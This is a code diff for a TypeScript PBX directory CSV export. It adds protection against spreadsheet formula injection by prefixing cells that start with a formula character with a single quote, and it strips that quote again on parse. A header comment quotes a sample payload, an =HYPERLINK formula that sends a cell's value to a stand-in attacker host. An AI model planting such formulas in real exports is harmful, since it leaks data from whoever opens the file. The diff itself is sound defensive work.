@@ -2,6 +2,13 @@
 // line break, quotes doubled), UTF-8 with a byte-order mark so spreadsheet programs read accents,
 // CJK and Arabic correctly. Lists (queues, devices) sit in one cell each, joined by "; " with
 // "\;" and "\\" escaped, so the file re-parses to the same directory.
+//
+// Formula injection (CSV injection): a spreadsheet runs a cell that starts with =, +, -, @, a tab
+// or a carriage return as a formula, so a PBX user could name an extension
+// =HYPERLINK("http://evil/?leak="&B3) and leak the sheet when an agent opens the export. As
+// OWASP recommends, such cells get a leading single quote (shown as text, not run). A cell that
+// already starts with quotes before such a character gets one more, so the parser can take
+// exactly one off and every value re-parses unchanged.
 import type { Extension } from '../shared/domain.js';
 import { type DirectoryRow, toRow } from './rows.js';
 
@@ -23,6 +30,19 @@ export const CSV_COLUMNS = [
 ] as const;
 
 const BOM = '\uFEFF';
+
+const FORMULA_START = /^[=+\-@\t\r]/;
+const GUARDED = /^'+[=+\-@\t\r]/;
+
+/** Prefixes a single quote to a cell a spreadsheet would evaluate (see the header). */
+export function neutralizeFormula(cell: string): string {
+  return FORMULA_START.test(cell) || GUARDED.test(cell) ? `'${cell}` : cell;
+}
+
+/** Undoes neutralizeFormula (exactly one quote, and only where it added one). */
+export function restoreFormula(cell: string): string {
+  return GUARDED.test(cell) ? cell.slice(1) : cell;
+}
 
 function quote(field: string): string {
   return /[",\r\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field;
@@ -70,7 +90,12 @@ function rowCells(r: DirectoryRow): string[] {
 
 export function toCsv(extensions: readonly Extension[]): string {
   const lines = [CSV_COLUMNS.join(',')];
-  for (const ext of extensions) lines.push(rowCells(toRow(ext)).map(quote).join(','));
+  for (const ext of extensions)
+    lines.push(
+      rowCells(toRow(ext))
+        .map((c) => quote(neutralizeFormula(c)))
+        .join(','),
+    );
   return `${BOM}${lines.join('\r\n')}\r\n`;
 }
 
@@ -112,7 +137,7 @@ export function parseCsv(text: string): DirectoryRow[] {
   const [header, ...rows] = parseCsvRecords(text);
   if (!header || header.join(',') !== CSV_COLUMNS.join(',')) throw new Error('not a directory CSV export');
   return rows.map((cells) => {
-    const cell = (i: number) => cells[i] ?? '';
+    const cell = (i: number) => restoreFormula(cells[i] ?? '');
     const names = splitList(cell(9));
     const queueNames = splitList(cell(7));
     const penalties = splitList(cell(8));
